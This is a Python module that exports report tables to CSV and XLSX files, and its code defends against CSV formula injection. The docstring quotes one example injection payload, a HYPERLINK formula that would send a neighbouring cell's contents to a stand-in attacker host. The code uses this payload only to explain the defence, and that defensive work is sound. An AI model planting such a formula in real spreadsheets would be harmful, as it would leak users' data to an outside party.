"""Tables as files: CSV (UTF-8 with a BOM, so Excel opens Chinese correctly) and XLSX.

The XLSX is written by XlsxWriter: a write-only library (it never has to read a workbook, so it is fast and
small), maintained, and it writes every part of the format correctly (shared strings, styles, frozen panes,
column widths), which a hand-written SpreadsheetML did not. Each table is a sheet: the title on the first
row, the header on the second, frozen so it stays in view, columns as wide as their content (a CJK
character counts double), and figures written as numbers with the sheet's number formats (money
`"¥"#,##0.00`, percentages `0.0%` from fractions, counts `#,##0`), so a spreadsheet can add them up.

Text comes from users (a customer's name, a lost reason), and a spreadsheet opening a CSV runs any cell that
starts like a formula: `=HYPERLINK("http://evil.example/?d="&A2,"x")` would send the next cell away. So every
CSV text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's
rule: the cell then reads as text), while numbers, and strings that are plain decimal numbers like
`-1600.00`, stay numbers. The XLSX needs no such prefix: its text cells are written as strings
(`write_string`), never formulas, and a `'` there would show as part of the name.

Codes never reach a file: a column with a `display_key` writes the row's words (a stage's name) instead.
A CSV has no formats, so its fractions are written as percentages ("42.86%"), which spreadsheets read as
numbers; other figures are written as the report holds them.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from decimal import Decimal
from typing import Any

import xlsxwriter

from backend.reports import words
from backend.reports.service import Column, Table

BOM = "\ufeff"
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
# What makes a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# The sheet's number format for each column format (words.FORMATS); text and plain numbers need none.
NUMBER_FORMATS = {
    "money": '"¥"#,##0.00',
    "percent": "0.0%",
    "integer": "#,##0",
    "decimal": "#,##0.0#",
}
MAX_WIDTH = 60


def _header(column_label: str, unit: str | None) -> str:
    return f"{column_label} ({unit})" if unit else column_label


def _cell_text(value: Any) -> str:
    if value is None:
        return ""
    text = str(value)
    if isinstance(value, str) and text.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def _csv_value(column: Column, row: dict[str, Any]) -> Any:
    value = row.get(column.shown_key)
    if column.format == "percent" and (number := words.as_number(value)) is not None:
        return f"{Decimal(str(number)) * 100:.2f}%"
    return value


def to_csv(table: Table) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([_cell_text(_header(c.label, c.unit)) for c in table.columns])
    for row in table.rows:
        writer.writerow([_cell_text(_csv_value(c, row)) for c in table.columns])
    return (BOM + out.getvalue()).encode("utf-8")


def _sheet_name(name: str, taken: set[str]) -> str:
    clean = re.sub(r"[\[\]:*?/\\]", "_", name).strip("'")[:31] or "sheet"
    candidate, n = clean, 2
    while candidate.lower() in taken:
        candidate, n = f"{clean[:28]}_{n}", n + 1
    taken.add(candidate.lower())
    return candidate


def text_width(text: str) -> int:
    """How many character widths a text takes in a sheet: a CJK (or other wide) character counts double."""
    return sum(2 if ord(char) >= 0x2E80 else 1 for char in text)


def _sheet_value(column: Column, row: dict[str, Any]) -> Any:
    """The cell's value for the sheet: a number where the column holds figures, else the text."""
    value = row.get(column.shown_key)
    if value is None:
        return None
    if column.format != "text" and not isinstance(value, bool):
        number = words.as_number(value)
        if number is not None:
            return number
    return str(value)


def to_xlsx(tables: list[Table], notes: Sequence[str] = ()) -> bytes:
    """One workbook, one sheet per table (named in the reader's words); the report's notes under the first."""
    buffer = io.BytesIO()
    # Nothing a user typed may become a formula, a number or a link: strings are written as strings.
    options = {
        "in_memory": True,
        "strings_to_formulas": False,
        "strings_to_numbers": False,
        "nan_inf_to_errors": True,
    }
    book = xlsxwriter.Workbook(buffer, options | {"strings_to_urls": False})
    title_style = book.add_format({"bold": True, "font_size": 13})
    header_style = book.add_format({"bold": True, "bottom": 1, "text_wrap": False, "bg_color": "#E6F2F1"})
    note_style = book.add_format({"italic": True, "font_color": "#475569"})
    styles = {fmt: book.add_format({"num_format": pattern}) for fmt, pattern in NUMBER_FORMATS.items()}
    taken: set[str] = set()
    for index, table in enumerate(tables):
        sheet = book.add_worksheet(_sheet_name(table.sheet or table.name, taken))
        sheet.write_string(0, 0, table.title, title_style)
        widths = []
        for c, column in enumerate(table.columns):
            header = _header(column.label, column.unit)
            sheet.write_string(1, c, header, header_style)
            widths.append(text_width(header))
        for r, row in enumerate(table.rows, start=2):
            for c, column in enumerate(table.columns):
                value = _sheet_value(column, row)
                if value is None:
                    continue
                if isinstance(value, str):
                    sheet.write_string(r, c, value)
                    shown = value
                else:
                    sheet.write_number(r, c, value, styles.get(column.format))
                    shown = words.figure(value, column.format)
                widths[c] = max(widths[c], text_width(shown))
        for c, width in enumerate(widths):
            sheet.set_column(c, c, min(width + 2, MAX_WIDTH))
        sheet.freeze_panes(2, 0)
        if index == 0:
            for n, note in enumerate(notes, start=len(table.rows) + 3):
                sheet.write_string(n, 0, note, note_style)
    book.close()
    return buffer.getvalue()
